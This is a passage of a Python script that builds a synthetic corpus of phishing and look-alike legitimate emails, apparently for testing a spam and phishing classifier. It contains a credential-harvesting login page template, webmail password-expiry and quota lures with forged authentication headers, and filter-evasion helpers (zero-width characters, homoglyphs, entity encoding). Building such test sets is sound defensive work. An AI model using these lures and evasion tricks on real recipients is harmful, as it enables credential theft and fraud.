"""Blind set 6: a research honeypot mailbox, 2022-2026, with look-alike legitimate mail.

The phishing half (50 messages, ``samples/mail/phishing/b6-*.eml``) is what one
long-lived personal mailbox on a small, old domain collects after its own mail
server accepted it. The main mailbox is dave@oldmillradio.org (the secretary of a
small amateur radio society, on a Postfix/Dovecot VPS with SpamAssassin and
OpenDKIM/OpenDMARC); a few messages reach sue@wrenhollow.net (a family domain on
the same VPS), jan@brackenfold.co.uk (a one-person bookkeeping business on a
cPanel/Exim shared host) and harbourlightstrust.org (a small charity on
Microsoft 365). Every message carries the receiving server's Received chain,
Authentication-Results as they would really read (throwaway and compromised
domains passing SPF, DKIM from bulk senders, DMARC fail or none for the names
the lure uses) and often the spam filter's verdict that let it through. Lures:
webmail / cPanel / Zimbra notices, HTML, SHTML and SVG attachments with
obfuscated redirectors, document-share and voicemail look-alikes, invoices with
link-only PDFs or zipped HTML, brand, bank, parcel and government lures,
callback scams, text tricks (zero-width and soft-hyphen characters, Cyrillic
homoglyphs, image-only bodies, hidden filler, entity-encoded text) and QR codes.

The legitimate half (25 messages, ``clean/`` for person-to-person mail,
``bulk/`` for notifications, receipts, newsletters and lists) shares the same
surface features on purpose: genuine security notices, shares, voicemail,
invoices, deploy previews on pages.dev / netlify.app / vercel.app, a github.io
link, a Google Form, click-tracked newsletters and a Microsoft 365 quarantine
digest, all with the authentication their real senders get. After the first
scan, six notices the writer filed as bulk but that come from no bulk service
or no-reply address (a password-reset code, a receipt, a club's Google Form, the
tenant's quarantine digest, a phone system's voicemail, a known sender's
DocuSign) were filed under clean/, where the engine's classification puts them.
The reset code (account-security-noreply@) and the Google Form (forms-receipts-noreply@)
went back to bulk/ once no-reply names behind a service's prefix counted.

Everything is written by hand and is deterministic: fixed dates, identifiers
derived from hashes, fixed MIME boundaries. Run from the repository root:

    .venv/bin/python samples/tools/build_blind6_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import io
import math
import string
import struct
import sys
import wave
from datetime import datetime, timedelta, timezone
from email.header import Header
from email.utils import format_datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind6_manifest.txt"

SAMPLES: list[tuple[str, str, str, bytes]] = []

UTC = timezone.utc

# --------------------------------------------------------------------------
# deterministic tokens


def tok(seed: str, n: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    out = ""
    i = 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}|{i}".encode()).digest()
        out += "".join(alphabet[b % len(alphabet)] for b in digest)
        i += 1
    return out[:n]


def hexs(seed: str, n: int) -> str:
    return tok(seed, n, "0123456789abcdef")


def b64blob(seed: str, n: int) -> str:
    raw = b""
    i = 0
    while len(raw) < n:
        raw += hashlib.sha256(f"{seed}#{i}".encode()).digest()
        i += 1
    return base64.b64encode(raw[:n]).decode()


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def enc(s: str) -> str:
    """RFC 2047 for non-ASCII header text."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        return Header(s, "utf-8").encode()


def addr(name: str, email: str) -> str:
    if not name:
        return email
    try:
        name.encode("ascii")
        if any(c in name for c in ',.;:()@"'):
            name = '"' + name.replace('"', '\\"') + '"'
        return f"{name} <{email}>"
    except UnicodeEncodeError:
        return f"{Header(name, 'utf-8').encode()} <{email}>"


def dt(y, mo, d, h, mi, s=0, tz=0.0) -> datetime:
    return datetime(y, mo, d, h, mi, s, tzinfo=timezone(timedelta(hours=tz)))


def fmt(when: datetime) -> str:
    return format_datetime(when)


def boundary(style: str, seed: str) -> str:
    if style == "gmail":
        return "000000000000" + hexs(seed, 16)
    if style == "apple":
        return "Apple-Mail=_" + "-".join([hexs(seed, 8), hexs(seed + "a", 4), hexs(seed + "b", 4),
                                          hexs(seed + "c", 4), hexs(seed + "d", 12)]).upper()
    if style == "outlook":
        return "_000_" + tok(seed, 36, string.ascii_uppercase + string.digits) + "_"
    if style == "php":
        return "b1_" + tok(seed, 40, string.ascii_letters + string.digits)
    if style == "java":
        return f"----=_Part_{int(hexs(seed, 5), 16)}_{int(hexs(seed + 'x', 8), 16)}.{int(hexs(seed + 'y', 10), 16)}"
    if style == "python":
        return "=" * 15 + str(int(hexs(seed, 15), 16))[:19] + "=="
    if style == "ses":
        return "=_" + tok(seed, 40)
    return "----=_NextPart_" + hexs(seed, 3).upper() + "_" + hexs(seed + "1", 4).upper() + "_" + hexs(seed + "2", 8).upper()


# --------------------------------------------------------------------------
# receiving side

SITES = {
    "oldmillradio.org": ("postfix", "mail.oldmillradio.org"),
    "wrenhollow.net": ("postfix", "mail.oldmillradio.org"),
    "brackenfold.co.uk": ("exim", "server214.hostpoint-uk.net"),
    "harbourlightstrust.org": ("o365", "harbourlightstrust.org"),
}

# DMARC policies published by organisational domains (absent: no record)
DMARC = {
    "oldmillradio.org": "none", "harbourlightstrust.org": "quarantine", "gmail.com": "none",
    "googlemail.com": "none", "google.com": "reject", "yahoo.com": "reject", "outlook.com": "none",
    "hotmail.com": "none", "icloud.com": "quarantine", "me.com": "quarantine", "paypal.com": "reject",
    "paypal.co.uk": "reject", "amazon.co.uk": "quarantine", "amazon.com": "quarantine", "apple.com": "quarantine",
    "microsoft.com": "reject", "github.com": "reject", "docusign.net": "reject", "docusign.com": "reject",
    "dropbox.com": "reject", "dropboxmail.com": "reject", "cloudflare.com": "reject", "netlify.com": "reject",
    "vercel.com": "reject", "namecheap.com": "reject", "sharepointonline.com": "reject",
    "coinbase.com": "reject", "wellsfargo.com": "reject", "chase.com": "reject", "bankofamerica.com": "reject",
    "usaa.com": "reject", "barclays.co.uk": "reject", "barclaycard.co.uk": "reject", "usps.com": "reject",
    "fedex.com": "reject", "dhl.com": "reject", "ssa.gov": "reject", "irs.gov": "reject", "hmrc.gov.uk": "reject",
    "xfinity.com": "reject", "comcast.net": "reject", "costco.com": "reject", "walmart.com": "reject",
    "netflix.com": "reject", "norton.com": "reject", "mcafee.com": "reject", "binance.com": "reject",
    "metamask.io": "reject", "adobe.com": "reject", "wetransfer.com": "reject", "geeksquad.com": "reject",
    "hartwellfreight.com": "none", "severncoax.co.uk": "quarantine", "fieldsidesurveys.co.uk": "quarantine",
    "lakesradiogroup.org.uk": "none", "tolland.me.uk": "none",
    "severnsidewildlife.org.uk": "none",
    # throwaway look-alike domains whose owners published a record so that their mail "passes"
    "certrenew-portal.net": "none", "fenwicksignsprint.com": "none", "hollandparkestates.com": "none",
    "coinbase-alerts-center.com": "none", "tx9-mbrsurvey.shop": "none",
}

MULTI_TLD = ("co.uk", "org.uk", "me.uk", "net.au", "com.mx", "com.au", "co.za", "co.jp", "com.br", "ac.uk", "gov.uk")


def org(domain: str) -> str:
    parts = domain.lower().strip(".").split(".")
    if ".".join(parts[-2:]) in MULTI_TLD:
        return ".".join(parts[-3:])
    return ".".join(parts[-2:])


def from_domain(frm: str) -> str:
    return frm.rsplit("@", 1)[1].strip(">").strip().lower()


def dkim_signature(d: str, s: str, when: datetime, seed: str, i: str | None = None) -> str:
    t = int(when.timestamp())
    head = f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};"
    if i:
        head += f" i={i};"
    b = b64blob(seed + d + "sig", 256)
    lines = [head, f"\tt={t}; h=from:to:subject:date:message-id:mime-version:content-type;",
             f"\tbh={b64blob(seed + d + 'bh', 32)};"]
    lines.append("\tb=" + b[:70])
    rest = b[70:]
    while rest:
        lines.append("\t " + rest[:72])
        rest = rest[72:]
    return "\n".join(lines)


def dmarc_result(frm_dom: str, spf: str, mf_dom: str, dkim: list) -> tuple[str, str]:
    policy = DMARC.get(org(frm_dom))
    aligned = (spf == "pass" and org(mf_dom) == org(frm_dom)) or any(
        r == "pass" and org(d) == org(frm_dom) for r, d, _ in dkim)
    if policy is None:
        return "none", "none"
    return ("pass" if aligned else "fail"), policy


def deliver(folder: str, slug: str, desc: str, *, rcpt: str, when: datetime, frm: str, subject: str, body,
            mailfrom: str, client: tuple[str, str, str], spf: str = "pass", dkim: list | tuple = (),
            spam: tuple | None = None, upstream: list | tuple = (), to: str | None = None, cc: str | None = None,
            reply_to: str | None = None, msgid: str | None = None, extra: list | tuple = (),
            before: list | tuple = (), delay: int = 3, tls: bool = True, dmarc_override: tuple | None = None,
            scl: int = 1, internal: bool = False) -> None:
    """Assemble a delivered message: receiving-server headers on top, then the sender's own."""
    rdom = rcpt.split("@")[1]
    kind, host = SITES[rdom]
    rdns, ip, helo = client
    frm_dom = from_domain(frm)
    mf_dom = mailfrom.rsplit("@", 1)[1] if mailfrom else helo
    dkim = list(dkim)
    dmarc, policy = dmarc_override or dmarc_result(frm_dom, spf, mf_dom, dkim)
    rtime = (when + timedelta(seconds=delay)).astimezone(UTC)
    seed = folder + slug
    if not msgid:
        if mf_dom == "gmail.com":
            msgid = gmail_mid(seed)
        elif mf_dom.endswith("amazonses.com"):
            msgid = mailfrom.split("@")[0].rsplit("-", 1)[0] + "-000000@email.amazonses.com"
        elif mf_dom == "yahoo.com":
            msgid = f"{int(hexs(seed + 'y', 9), 16)}.{int(hexs(seed + 'z', 9), 16)}@mail.yahoo.com"
        elif mf_dom == "outlook.com":
            msgid = f"DU0P189MB{tok(seed + 'o', 4, string.digits)}{tok(seed + 'p', 32, string.ascii_uppercase + string.digits)}@DU0P189MB1234.EURP189.PROD.OUTLOOK.COM"
        else:
            msgid = f"{hexs(seed + 'mid', 24)}@{mf_dom if '@' in (mailfrom or '') and len(mailfrom.split('@')[0]) < 30 else frm_dom}"

    own = []
    for result, d, s in dkim:
        own.append(dkim_signature(d, s, when, seed))
    own += list(upstream)
    own += list(before)
    own.append(f"From: {frm}")
    own.append(f"To: {to or rcpt}")
    if cc:
        own.append(f"Cc: {cc}")
    own.append(f"Subject: {enc(subject)}")
    own.append(f"Date: {fmt(when)}")
    own.append(f"Message-ID: <{msgid}>")
    if reply_to:
        own.append(f"Reply-To: {reply_to}")
    own += list(extra)

    top = []
    if kind == "postfix":
        qid = tok(seed + "q", 11, "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789")
        qid = "4" + qid[:1].upper() + qid[1:]
        top.append(f"Return-Path: <{mailfrom}>")
        top.append(f"X-Original-To: {rcpt}")
        top.append(f"Delivered-To: {rcpt}")
        top.append(f"Received: from {host}\n\tby {host} with LMTP\n\tid {tok(seed + 'lmtp', 22)}\n"
                   f"\t(envelope-from <{mailfrom}>)\n\tfor <{rcpt}>; {fmt(rtime + timedelta(seconds=1))}")
        if spam:
            score, tests = spam
            level = "*" * max(0, int(score))
            top.append(f"X-Spam-Checker-Version: SpamAssassin 3.4.6 (2021-04-09) on {host}")
            top.append(f"X-Spam-Level: {level}")
            wrapped = tests.split(",")
            lines, cur = [], ""
            for t in wrapped:
                if len(cur) + len(t) > 60:
                    lines.append(cur)
                    cur = ""
                cur += t + ","
            lines.append(cur.rstrip(","))
            top.append(f"X-Spam-Status: No, score={score:.1f} required=5.0 tests=" + "\n\t".join(lines)
                       + "\n\tautolearn=no autolearn_force=no version=3.4.6")
        dis = "none" if dmarc != "fail" or policy == "none" else policy
        top.append(f"Authentication-Results: {host}; dmarc={dmarc} (p={policy} dis={dis}) header.from={frm_dom}")
        spf_text = {"pass": "", "softfail": " (domain owner discourages use of this host)",
                    "fail": " (domain owner does not allow this host)", "none": " (no SPF record)",
                    "neutral": ""}[spf]
        top.append(f"Authentication-Results: {host};\n\tspf={spf}{spf_text} smtp.mailfrom={mailfrom or helo}")
        if dkim:
            parts = []
            for result, d, s in dkim:
                bb = b64blob(seed + d + "sig", 256)[:8]
                if result == "pass":
                    parts.append(f"dkim=pass (2048-bit key; unprotected) header.d={d} header.i=@{d} "
                                 f"header.a=rsa-sha256 header.s={s} header.b={bb}")
                else:
                    parts.append(f"dkim=fail reason=\"signature verification failed\" (2048-bit key; unprotected) "
                                 f"header.d={d} header.i=@{d} header.a=rsa-sha256 header.s={s} header.b={bb}")
            top.append(f"Authentication-Results: {host};\n\t" + ";\n\t".join(parts))
        else:
            top.append(f"Authentication-Results: {host}; dkim=none")
        spf_word = spf.capitalize() if spf != "none" else "None"
        top.append(f"Received-SPF: {spf_word} (mailfrom) identity=mailfrom; client-ip={ip}; helo={helo};"
                   f" envelope-from={mailfrom}; receiver=<UNKNOWN>")
        src = f"{helo} ({rdns} [{ip}])" if helo != rdns else f"{rdns} ({rdns} [{ip}])"
        if tls:
            tls_text = ("\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
                        "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
                        "\t(No client certificate requested)\n")
            proto = "ESMTPS"
        else:
            tls_text = ""
            proto = "ESMTP"
        top.append(f"Received: from {src}\n{tls_text}\tby {host} (Postfix) with {proto} id {qid}\n"
                   f"\tfor <{rcpt}>; {fmt(rtime)} (UTC)")
        headers = top + own
    elif kind == "exim":
        eid = f"1{tok(seed + 'e1', 5)}-{tok(seed + 'e2', 6)}-{tok(seed + 'e3', 2)}"
        top.append(f"Return-path: <{mailfrom}>")
        top.append(f"Envelope-to: {rcpt}")
        top.append(f"Delivery-date: {fmt(rtime)}")
        port = 1024 + int(hexs(seed + "port", 4), 16) % 60000
        top.append(f"Received: from {rdns} ([{ip}]:{port} helo={helo})\n\tby {host} with esmtps  (TLS1.3) tls "
                   f"TLS_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <{mailfrom}>)\n\tid {eid}\n"
                   f"\tfor {rcpt};\n\t{fmt(rtime)}")
        ar = [f"spf={spf} (server214.hostpoint-uk.net: "
              + ({"pass": f"domain of {mailfrom} designates {ip} as permitted sender",
                  "softfail": f"transitioning domain of {mailfrom} does not designate {ip} as permitted sender",
                  "fail": f"domain of {mailfrom} does not designate {ip} as permitted sender",
                  "none": f"domain of {mailfrom} does not designate permitted sender hosts",
                  "neutral": f"{ip} is neither permitted nor denied by domain of {mailfrom}"}[spf])
              + f") smtp.mailfrom={mailfrom}"]
        for result, d, s in dkim:
            ar.append(f"dkim={result} header.d={d} header.s={s} header.b={b64blob(seed + d + 'sig', 256)[:8]}")
        if not dkim:
            ar.append("dkim=none (message not signed)")
        ar.append(f"dmarc={dmarc} header.from={frm_dom}")
        top.append(f"Authentication-Results: {host};\n\t" + ";\n\t".join(ar))
        if spam:
            score, tests = spam
            top.append(f"X-Spam-Status: No, score={score:.1f}")
            top.append(f"X-Spam-Score: {int(round(score * 10))}")
            top.append("X-Spam-Bar: " + "+" * max(0, int(score)) if score >= 1 else "X-Spam-Bar: /")
            top.append(f"X-Ham-Report: Spam detection software, running on the system \"{host}\",\n"
                       f" has NOT identified this incoming email as spam.\n Content analysis details:   "
                       f"({score:.1f} points, 5.0 required)\n  " + "\n  ".join(
                           f"{t}" for t in tests.split(",")))
            top.append("X-Spam-Flag: NO")
        headers = top + own
    else:  # Microsoft 365
        mbx = "LO4P265MB" + str(5000 + int(hexs(seed + "mbx", 3), 16) % 999) + ".GBRP265.PROD.OUTLOOK.COM"
        fe = "LO1PEPF0000" + tok(seed + "fe", 4, string.ascii_uppercase + string.digits) + ".GBRP265.PROD.OUTLOOK.COM"
        eop = "LO1PEPF0000" + tok(seed + "fe", 4, string.ascii_uppercase + string.digits) + ".mail.protection.outlook.com"
        t1 = fmt(rtime)
        t2 = fmt(rtime + timedelta(seconds=1))
        if internal:
            rec = [f"Received: from {rdns} ({ip}) by\n {mbx} (2603:10a6:600:2b4::11) with Microsoft SMTP\n"
                   f" Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8093.21; {t2}"]
        else:
            rec = [f"Received: from {fe} (2603:10a6:20b:3a0:cafe::8e) by\n {mbx} (2603:10a6:600:2b4::11) with "
                   f"Microsoft SMTP\n Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id "
                   f"15.20.8093.21 via Frontend\n Transport; {t2}"]
        dk = "; ".join(f"dkim={r} (signature was verified) header.d={d}" if r == "pass" else
                       f"dkim=fail (body hash did not verify) header.d={d}" for r, d, _ in dkim) or \
            "dkim=none (message not signed) header.d=none"
        action = {"pass": "none", "none": "none", "fail": "none" if policy == "none" else "oreject" if policy == "reject" else "quarantine"}[dmarc]
        compauth = "pass reason=100" if dmarc == "pass" else ("fail reason=000" if dmarc == "fail" else "softpass reason=201" if spf == "pass" else "fail reason=601")
        if not internal:
            rec.append(f"Authentication-Results: spf={spf} (sender IP is {ip})\n smtp.mailfrom={mf_dom}; {dk};"
                       f"dmarc={dmarc} action={action}\n header.from={frm_dom};compauth={compauth}")
            rec.append(f"Received-SPF: {spf.capitalize()} (protection.outlook.com: domain of {mf_dom}\n"
                       f" designates {ip} as permitted sender) receiver=protection.outlook.com;\n"
                       f" client-ip={ip}; helo={helo}; pr=C")
            rec.append(f"Received: from {rdns} ({ip}) by\n {eop} (10.167.242.171) with Microsoft SMTP\n"
                       f" Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8093.21 "
                       f"via Frontend\n Transport; {t1}")
        tail = [
            "X-MS-Exchange-Organization-ExpirationStartTime: " + rtime.strftime("%d %b %Y %H:%M:%S.0000 (UTC)"),
            "X-MS-Exchange-Organization-Network-Message-Id: " + "-".join(
                [hexs(seed + "n1", 8), hexs(seed + "n2", 4), hexs(seed + "n3", 4), hexs(seed + "n4", 4), hexs(seed + "n5", 12)]),
            "X-MS-Exchange-Organization-AuthSource: " + (mbx if internal else fe),
            "X-MS-Exchange-Organization-AuthAs: " + ("Internal" if internal else "Anonymous"),
            f"X-MS-Exchange-Organization-SCL: {-1 if internal else scl}",
        ]
        if not internal:
            tail.append(f"X-Forefront-Antispam-Report: CIP:{ip};CTRY:;LANG:en;SCL:{scl};SRV:;IPV:NLI;SFV:NSPM;"
                        f"H:{helo};\n PTR:{rdns};CAT:NONE;SFS:(13230040)(4022899009)(8096899003);DIR:INB;")
        headers = rec + own + tail
    data = message("\n".join(headers), body)
    SAMPLES.append((folder, slug, desc, data))


# --------------------------------------------------------------------------
# sender infrastructure presets


def gmail(addr_: str, when: datetime, seed: str) -> dict:
    n = 40 + int(hexs(seed + "g", 2), 16) % 20
    host = f"mail-wr1-f{n}.google.com"
    ip = f"209.85.221.{n}"
    return dict(mailfrom=addr_, client=(host, ip, host), dkim=[("pass", "gmail.com", "20230601")],
                upstream=[f"Received: by {host} with SMTP id {tok(seed + 'gid', 12).lower()}-{hexs(seed, 5)}.3"
                          f"\n        for <{{rcpt}}>; {fmt(when)}",
                          f"X-Google-Smtp-Source: {b64blob(seed + 'gss', 60)[:78]}"])


def outlook_consumer(addr_: str, when: datetime, seed: str) -> dict:
    n = 2 + int(hexs(seed + "o", 2), 16) % 200
    host = f"mail-db8eur05olkn20{n % 10}{n % 7}.outbound.protection.outlook.com"
    return dict(mailfrom=addr_, client=(host, f"40.92.89.{n}", "EUR05-DB8-obe.outbound.protection.outlook.com"),
                dkim=[("pass", "outlook.com", "selector1")])


def fix(d: dict, rcpt: str) -> dict:
    d = dict(d)
    if "upstream" in d:
        d["upstream"] = [u.replace("{rcpt}", rcpt) for u in d["upstream"]]
    return d


# --------------------------------------------------------------------------
# body helpers


def alt(plain: str, html: str, style: str, seed: str) -> Multi:
    return Multi("alternative", boundary(style, seed), [text(plain), text(html, "html")])


def mixed(first, attachments: list, style: str, seed: str) -> Multi:
    return Multi("mixed", boundary(style, seed + "mix"), [first] + attachments)


def html_only(html: str, encoding: str = "quoted-printable") -> Leaf:
    return text(html, "html", encoding)


def notice(brand: str, colour: str, heading: str, paras: list[str], button: tuple[str, str] | None,
           footer: str, preheader: str = "", logo: str | None = None, after: list[str] | None = None,
           font: str = "Segoe UI, Arial, sans-serif") -> str:
    """Table-layout notice, as phishing kits and transactional senders both write them."""
    logo_html = logo or f'<span style="font-size:22px;font-weight:bold;color:{colour}">{brand}</span>'
    pre = (f'<div style="display:none;max-height:0;overflow:hidden">{preheader}</div>\n' if preheader else "")
    body = "\n".join(f'<p style="margin:0 0 14px 0">{p}</p>' for p in paras)
    btn = ""
    if button:
        btn = (f'<table cellpadding="0" cellspacing="0" border="0" style="margin:18px 0"><tr>'
               f'<td bgcolor="{colour}" style="border-radius:4px;padding:11px 26px">'
               f'<a href="{button[1]}" style="color:#ffffff;text-decoration:none;font-weight:bold" target="_blank">'
               f'{button[0]}</a></td></tr></table>\n')
    aft = "\n".join(f'<p style="margin:0 0 14px 0">{p}</p>' for p in (after or []))
    return f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>{heading}</title></head>
<body style="margin:0;padding:0;background:#f3f3f3">
{pre}<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f3f3f3"><tr><td align="center" style="padding:24px 8px">
<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="font-family:{font};font-size:14px;color:#333333;line-height:1.5">
<tr><td style="padding:22px 32px;border-bottom:3px solid {colour}">{logo_html}</td></tr>
<tr><td style="padding:26px 32px">
<h2 style="margin:0 0 16px 0;font-size:20px;font-weight:600;color:#222222">{heading}</h2>
{body}
{btn}{aft}
</td></tr>
<tr><td style="padding:16px 32px;background:#fafafa;font-size:11px;color:#888888">{footer}</td></tr>
</table></td></tr></table>
</body></html>
"""


def png_text(lines: list[str], size=(560, 300), colours=((255, 255, 255), (20, 20, 20)), band=None) -> bytes:
    """A PNG whose only content is text (image-only phishing bodies)."""
    from PIL import Image, ImageDraw, ImageFont

    img = Image.new("RGB", size, colours[0])
    draw = ImageDraw.Draw(img)
    try:
        font = ImageFont.load_default(size=18)
    except TypeError:
        font = ImageFont.load_default()
    y = 20
    if band:
        draw.rectangle([0, 0, size[0], 56], fill=band)
        y = 70
    for i, line in enumerate(lines):
        draw.text((24, 18 if (band and i == 0) else y), line, fill=((255, 255, 255) if band and i == 0 else colours[1]), font=font)
        if not (band and i == 0):
            y += 30
    buf = io.BytesIO()
    img.save(buf, "PNG", optimize=False)
    return buf.getvalue()


def wav_tone(seconds: float = 2.0, rate: int = 8000) -> bytes:
    """A short mono 8 kHz PCM WAV: a few falling tones, like a short recording."""
    buf = io.BytesIO()
    with wave.open(buf, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        frames = bytearray()
        for i in range(int(seconds * rate)):
            f = 440 - 120 * (i / (seconds * rate))
            amp = 6000 if (i // 1600) % 2 == 0 else 2500
            frames += struct.pack("<h", int(amp * math.sin(2 * math.pi * f * i / rate)))
        w.writeframes(bytes(frames))
    return buf.getvalue()


def js_chars(s: str) -> str:
    return ",".join(str(ord(c)) for c in s)


def pct_all(s: str) -> str:
    return "".join(f"%{ord(c):02X}" if ord(c) < 128 else c for c in s)


def entities(s: str) -> str:
    return "".join(f"&#{ord(c)};" if c.isalnum() else c for c in s)


ZW = "\u200b"
SHY = "\u00ad"


def zw(word: str, mark: str = ZW) -> str:
    """Put an invisible character after every other letter of a word."""
    return "".join(c + (mark if i % 2 == 1 and i < len(word) - 1 else "") for i, c in enumerate(word))


def cyr(s: str) -> str:
    return s.translate(str.maketrans({"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441",
                                      "P": "\u0420", "y": "\u0443", "x": "\u0445"}))


DAVE = "dave@oldmillradio.org"
SUE = "sue@wrenhollow.net"
JAN = "jan@brackenfold.co.uk"
INFO = "info@oldmillradio.org"
TREAS = "treasurer@oldmillradio.org"
WEBM = "webmaster@oldmillradio.org"
HLT = "dave.harker@harbourlightstrust.org"

SA_LOW = "DKIM_SIGNED,DKIM_VALID,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS"


def P(slug: str, desc: str, **kw) -> None:
    deliver("phishing", slug, desc, **kw)


def C(slug: str, desc: str, **kw) -> None:
    deliver("clean", slug, desc, **kw)


def B(slug: str, desc: str, **kw) -> None:
    deliver("bulk", slug, desc, **kw)


PHPMAILER = "X-Mailer: PHPMailer 6.5.3 (https://github.com/PHPMailer/PHPMailer)"


def login_page(title: str, brand: str, colour: str, email: str, action: str, note: str) -> str:
    """The whole phishing page, as an attachment kit writes it (the address pre-filled)."""
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>{title}</title>
<style>body{{margin:0;background:#eef1f5;font-family:Segoe UI,Arial,sans-serif}}.box{{width:360px;margin:70px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 8px rgba(0,0,0,.2)}}
.b{{font-size:20px;font-weight:600;color:{colour};margin-bottom:18px}}input{{width:100%;padding:9px 4px;margin:8px 0;border:0;border-bottom:1px solid #888;font-size:15px}}
button{{background:{colour};color:#fff;border:0;padding:9px 30px;float:right;margin-top:14px;font-size:15px}}.n{{font-size:13px;color:#444}}</style></head>
<body><div class="box"><div class="b">{brand}</div><div class="n">{note}</div>
<form method="POST" action="{action}" id="f">
<input type="email" name="login" value="{email}" readonly>
<input type="password" name="passwd" placeholder="Password" required autofocus>
<input type="hidden" name="src" value="{title}">
<button type="submit">Sign in</button></form>
<div style="clear:both"></div><p class="n" style="margin-top:26px">Session expires in <b id="t">04:59</b></p></div>
</body></html>
"""


def phishing_webmail() -> None:
    # 1 -------------------------------------------------------------------
    when = dt(2022, 3, 8, 6, 41, 12, -5)
    url = "https://owa-mailbox-sync.dm7k2p.workers.dev/?login=dave@oldmillradio.org"
    html = notice(
        "oldmillradio.org", "#37474f", "Password Expiration Notice",
        ["Dear dave,",
         "The password to your mailbox <b>dave@oldmillradio.org</b> expires today <b>3/8/2022</b>.",
         "To keep using your current password and avoid interruption of incoming mails, use the button below.",
         ],
        ("Keep Same Password", url),
        "This message was sent automatically by the oldmillradio.org mail server. Do not reply.<br>"
        "&copy; 2022 oldmillradio.org Webmail &middot; cPanel, Inc.",
        preheader="Your mailbox password expires today")
    P("b6-webmail-password-expiry-workers-dev",
      "display name and From use the recipient's own domain but the mail comes from a hosting box (SPF pass for hostcraft-dns.net, DMARC fail for oldmillradio.org); 'keep same password' button to a workers.dev page with the address in the query",
      rcpt=DAVE, when=when, frm=addr("oldmillradio.org Webmail", "no-reply@oldmillradio.org"),
      subject="Password Expiration Notice for dave@oldmillradio.org", body=html_only(html),
      mailfrom="cedarhol@s418.hostcraft-dns.net", client=("s418.hostcraft-dns.net", "173.236.88.41", "s418.hostcraft-dns.net"),
      spam=(2.4, "HEADER_FROM_DIFFERENT_DOMAINS,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS,T_REMOTE_IMAGE"),
      extra=[PHPMAILER, "X-Priority: 1 (Highest)"])

    # 2 -------------------------------------------------------------------
    when = dt(2022, 6, 21, 14, 3, 55, 0)
    url = "https://mailquota-upgrade-7f3e1.firebaseapp.com/#" + b64(DAVE)
    bar = ('<table width="100%" cellpadding="0" cellspacing="0" style="border:1px solid #999"><tr>'
           '<td width="98%" bgcolor="#d32f2f" style="font-size:11px;color:#fff;padding:3px">4.91 GB</td>'
           '<td width="2%" bgcolor="#eeeeee"></td></tr></table>')
    html = notice(
        "Mail Administrator", "#1565c0", "Mailbox storage almost full",
        ["Hello dave@oldmillradio.org,",
         "Your mailbox has used <b>98%</b> of its storage quota (4.91 GB of 5 GB).",
         bar,
         "Incoming messages are now being returned to senders. Increase your storage for free "
         "before <b>June 22, 2022</b> to restore normal delivery."],
        ("Increase Storage", url),
        "oldmillradio.org e-mail administration &middot; Automated notification, please do not reply.")
    plain = ("Hello dave@oldmillradio.org,\n\nYour mailbox has used 98% of its storage quota (4.91 GB of 5 GB).\n"
             "Incoming messages are now being returned to senders.\n\nIncrease Storage: " + url + "\n")
    P("b6-mailbox-quota-full-firebaseapp",
      "storage-quota scare for the recipient's own mailbox sent through a SendGrid account of an unrelated HOA domain; 'increase storage' goes to a firebaseapp.com page with the address base64-encoded in the #fragment",
      rcpt=DAVE, when=when, frm=addr("Mail Administrator", "postmaster@lindenpark-hoa.org"),
      subject="[oldmillradio.org] Mailbox quota 98% - incoming messages suspended",
      body=alt(plain, html, "java", "p2"),
      mailfrom="bounces+28841733-9c1e-dave=oldmillradio.org@em7181.lindenpark-hoa.org",
      client=("o1.ptr4412.lindenpark-hoa.org", "149.72.131.88", "o1.ptr4412.lindenpark-hoa.org"),
      dkim=[("pass", "lindenpark-hoa.org", "s1"), ("pass", "sendgrid.info", "smtpapi")],
      spam=(1.9, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,RCVD_IN_DNSWL_NONE,SPF_HELO_NONE,SPF_PASS,URI_FIREBASEAPP"),
      extra=["X-SG-EID: " + b64blob("p2sg", 60)[:76], "X-Entity-ID: " + b64blob("p2ent", 18)])

    # 3 -------------------------------------------------------------------
    when = dt(2022, 9, 14, 2, 17, 40, 1)
    gw = "https://ipfs.io/ipfs/bafybeih3kq7w2x4vzqkt5r2m6zdf3o7yq4lq2a5n6cplgm7e4dzv3xw2ka/roundcube.html"
    held = [("Re: Field day generator booking", "Mike Tolland"), ("Invoice 2209-114 from Severn Coax", "accounts"),
            ("QSL card batch - September", "RSGB QSL Bureau"), ("Meeting minutes draft", "Alan Price"),
            ("Payment received", "PayPal"), ("Re: repeater licence renewal", "Ofcom Licensing")]
    rows = "".join(
